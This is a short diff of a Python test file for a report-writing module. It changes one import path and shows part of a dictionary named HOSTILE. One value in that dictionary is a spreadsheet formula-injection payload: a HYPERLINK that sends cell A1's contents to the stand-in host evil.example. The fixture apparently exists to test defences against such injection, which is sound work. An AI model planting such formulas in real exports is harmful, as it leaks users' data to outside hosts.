@@ -17,7 +17,7 @@ import pytest
 from openpyxl import load_workbook
 
 from centers.errors import BadInput
-from centers.reports import Report, write_report
+from staff.reports import Report, write_report
 
 HOSTILE = {
     "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
